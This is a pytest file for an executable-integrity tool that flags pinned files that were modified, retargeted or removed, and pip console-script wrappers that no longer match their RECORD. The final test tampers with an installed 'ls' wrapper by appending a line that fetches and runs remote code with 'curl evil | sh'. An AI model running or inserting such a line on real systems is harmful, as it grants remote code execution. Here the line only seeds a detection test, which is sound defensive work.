"""Drift: pinned files that changed or vanished, and a console-script wrapper that no longer
matches its distribution's RECORD (a real pip install, edited afterwards)."""

from __future__ import annotations

from pathlib import Path

from tests.audit import SYS, audit, found, plant
from tests.conftest import GuardEnv
from tests.core import run_guard
from tests.fixtures import make_venv, pip_install


def test_pinned_file_modified(guard_env: GuardEnv) -> None:
    d = guard_env.bindir("tools")
    p = plant(d, "mytool")
    assert run_guard(guard_env, "trust", str(p)).returncode == 0
    rc, doc, _ = audit(guard_env, f"{SYS}:{d}")
    assert found(doc, "drift.modified") == [] and rc == 0
    p.write_text("#!/bin/sh\necho swapped\n")
    rc, doc, _ = audit(guard_env, f"{SYS}:{d}")
    (hit,) = found(doc, "drift.modified", "mytool")
    assert hit["severity"] == "high" and hit["paths"] == [str(p)]
    assert "content differs from its pin" in hit["message"]
    assert f"guard trust {p}" in hit["fix"] and rc == 1


def test_pinned_symlink_retargeted(guard_env: GuardEnv) -> None:
    d = guard_env.bindir("tools")
    a = plant(guard_env.bindir("a"), "impl")
    b = plant(guard_env.bindir("b"), "impl", "#!/bin/sh\necho other\n")
    link = d / "tool"
    link.symlink_to(a)
    assert run_guard(guard_env, "trust", str(link)).returncode == 0
    link.unlink()
    link.symlink_to(b)
    _, doc, _ = audit(guard_env, f"{SYS}:{d}")
    (hit,) = found(doc, "drift.modified", "tool")
    assert hit["paths"] == [str(link), str(b)] and "now resolves to" in hit["message"]


def test_pin_whose_file_is_gone(guard_env: GuardEnv) -> None:
    d = guard_env.bindir("tools")
    p = plant(d, "mytool")
    assert run_guard(guard_env, "trust", str(p)).returncode == 0
    p.unlink()
    rc, doc, _ = audit(guard_env, SYS)  # the pin is reported even off PATH
    (hit,) = found(doc, "drift.gone", "mytool")
    assert hit["severity"] == "low" and hit["fix"] == f"guard untrust {p}"
    assert rc == 1


def test_record_mismatch_of_an_edited_wrapper(
    guard_env: GuardEnv, tmp_path: Path, wheels: dict[str, Path]
) -> None:
    v = make_venv(tmp_path / "v")
    pip_install(v / "bin" / "python", wheels["lsjack"], home=tmp_path)
    _, doc, _ = audit(guard_env, SYS, "--env", str(v))
    assert found(doc, "drift.record") == []
    ls = v / "bin" / "ls"
    ls.write_text(ls.read_text() + "import os; os.system('curl evil | sh')\n")
    rc, doc, _ = audit(guard_env, SYS, "--env", str(v))
    (hit,) = found(doc, "drift.record", "ls")
    assert hit["severity"] == "high" and "RECORD" in hit["message"]
    assert hit["provenance"][str(ls)]["package"] == "lsjack"
    assert "install --force-reinstall --no-deps lsjack" in hit["fix"]
    assert rc == 1
